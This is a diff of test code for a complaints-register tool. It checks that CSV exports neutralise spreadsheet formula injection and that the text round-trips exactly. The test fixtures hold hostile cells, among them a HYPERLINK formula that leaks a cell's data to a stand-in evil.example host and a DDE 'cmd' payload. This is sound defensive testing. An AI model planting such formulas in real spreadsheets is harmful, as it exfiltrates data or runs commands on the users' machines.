@@ -444,6 +444,9 @@ def test_one_bad_row_among_good_ones_and_nothing_is_written(ctx):
     (good_row(summary="caf\udce9"), ["column summary: is not UTF-8 text"]),
     (good_row(summary="half \ud800 a pair"), ["column summary: is not UTF-8 text"]),
     (good_row(summary="Line one,\n\tline two"), []),
+    # A leading quote before a formula character is the export's guard: taken off, then the length counted.
+    (good_row(summary="'=" + "x" * (SUMMARY_MAX - 1)), []),
+    (good_row(summary="'=" + "x" * SUMMARY_MAX), [f"column summary: is {SUMMARY_MAX + 1:,} characters long"]),
     (good_row(reporter="cli:someone"), []),
     (good_row(reporter="ULEAD", handler="WEXTERNAL1", severity="low", days_to_resolve="garbage"), []),
 ])
@@ -670,6 +673,98 @@ def test_cli_export_and_import_round_trip(ctx, run, tmp_path, other_store, monke
         f"line 2, column reference: {ref} is already in the store",
         "1 row(s) rejected, so nothing was imported (an import is all or nothing): fix them and run it again; "
         "--dry-run checks without writing."]
+
+
+# Client text a spreadsheet would run as a formula, in every free-text column of the register.
+FORMULAS = {
+    "client_name": '=HYPERLINK("https://evil.example/?leak="&E2,"Open")',
+    "matter_ref": "+M-1001",
+    "summary": "-1 day late; they were told the 30th",
+    "client_request": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "remedy": "'=2+2, already quoted once",
+}
+MORE_FORMULAS = {
+    "client_name": "+44 20 7946 0000",
+    "matter_ref": "''-M-2",
+    "summary": "=1+1",
+    "client_request": "-",
+    "remedy": "@once",
+}
+DISCLOSURE_FORMULAS = {"client_name": "@Jane Client", "matter_ref": "=M-1001", "content": "-£250 off; '=not a formula"}
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def log_hostile(ctx, text: dict[str, str], *, received_on: str) -> str:
+    ref = log(ctx, received_on=received_on, **{k: v for k, v in text.items() if k != "remedy"})
+    data = complaints.parse_resolution({
+        "outcome": "upheld", "remedy": text["remedy"], "final_response_sent_on": ctx.today().isoformat(),
+        "ombudsman": ",".join(p.value for p in OmbudsmanPoint), "root_cause": "costs"}, today=ctx.today())
+    complaints.resolve(session_factory=ctx.session_factory, reference=ref, data=data, actor="UHANDLER1",
+                       now=ctx.clock.now(), settings=ctx.settings)
+    return ref
+
+
+def stored_text(where, refs: list[str]) -> list[dict[str, str]]:
+    with where.session_factory() as session:
+        by_ref = {c.reference: c for c in session.execute(select(Complaint)).scalars()}
+    return [{name: getattr(by_ref[ref], name) for name in FORMULAS} for ref in refs]
+
+
+def test_cli_csv_never_holds_a_formula_and_gives_back_the_text_exactly(ctx, run, tmp_path, other_store, monkeypatch):
+    ctx.clock.set(T0 - timedelta(days=3))  # the command line runs on the real clock
+    refs = [log_hostile(ctx, FORMULAS, received_on="2026-11-19"), log_hostile(ctx, MORE_FORMULAS, received_on="2026-11-18")]
+    # A text that begins with a tab, as an earlier import may have stored it (a modal strips it).
+    tabbed = log(ctx, received_on="2026-11-17", summary="placeholder")
+    with ctx.session_factory.begin() as session:
+        session.execute(update(Complaint).where(Complaint.reference == tabbed).values(summary="\tindented"))
+    disclosures.log_disclosure(session_factory=ctx.session_factory, data=disclosures.parse_disclosure({
+        **{"kind": "costs_estimate", "disclosed_on": ctx.today().isoformat(), "disclosed_via": "email",
+           "ack_status": "acknowledged", "follow_up_on": None, "document_url": None}, **DISCLOSURE_FORMULAS},
+        today=ctx.today()), logged_by="UFEE", now=ctx.clock.now(), settings=ctx.settings, policy=ctx.policy)
+    originals = stored_text(ctx, refs)
+    assert originals == [FORMULAS, MORE_FORMULAS]
+
+    assert run("export", "--out", "register.csv")[0] == 0
+    first = (tmp_path / "register.csv").read_bytes()
+    rows = rows_of(first.decode())
+    cells = [cell for row in rows for cell in row.values()]
+    assert [c for c in cells if c.startswith(TRIGGERS)] == []
+    # Each such cell is written with one quote more than it had, and nothing else about it changes.
+    by_ref = {row["reference"]: row for row in rows}
+    for ref, text in zip(refs, (FORMULAS, MORE_FORMULAS)):
+        assert {name: by_ref[ref][name] for name in text} == {name: "'" + value for name, value in text.items()}
+    assert by_ref[tabbed]["summary"] == "'\tindented"
+    assert by_ref[tabbed]["client_name"] == "Jane Client"  # text that is no formula is written as it is
+    # JSON is no spreadsheet: it holds the text as it is.
+    status, out, _ = run("export", "--format", "json")
+    assert status == 0 and {item["reference"]: item["client_name"] for item in json.loads(out)}[refs[0]] == FORMULAS["client_name"]
+
+    monkeypatch.setenv("DATABASE_URL", str(other_store.engine.url.render_as_string(hide_password=False)))
+    status, out, _ = run("import", "register.csv")
+    assert (status, out) == (0, "3 complaints imported (0 new references).\n")
+    assert stored_text(other_store, refs) == originals
+    with other_store.session_factory() as session:
+        assert session.execute(select(Complaint.summary).where(Complaint.reference == tabbed)).scalar_one() == "\tindented"
+    assert run("export", "--out", "again.csv")[0] == 0
+    assert (tmp_path / "again.csv").read_bytes() == first
+
+    # The disclosures register is guarded the same way, and reads back to what was stored.
+    monkeypatch.setenv("DATABASE_URL", str(ctx.engine.url.render_as_string(hide_password=False)))
+    assert run("export", "--disclosures", "--out", "disclosures.csv")[0] == 0
+    [disclosure] = rows_of((tmp_path / "disclosures.csv").read_text())
+    assert [c for c in disclosure.values() if c.startswith(TRIGGERS)] == []
+    assert {name: disclosure[name] for name in DISCLOSURE_FORMULAS} == {
+        name: "'" + value for name, value in DISCLOSURE_FORMULAS.items()}
+    assert {name: register.Formula.unguard(disclosure[name]) for name in DISCLOSURE_FORMULAS} == DISCLOSURE_FORMULAS
+
+
+@hsettings(max_examples=500, derandomize=True, deadline=None)
+@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", " "]), max_size=6))
+def test_the_formula_guard_is_undone_exactly_and_leaves_no_formula(cell):
+    guarded = register.Formula.guard(cell)
+    assert register.Formula.unguard(guarded) == cell
+    assert not guarded.startswith(TRIGGERS)
+    assert guarded == cell or guarded == "'" + cell
 
 
 def test_cli_import_reports_bad_rows_of_a_file_in_any_encoding_mess(run, tmp_path):
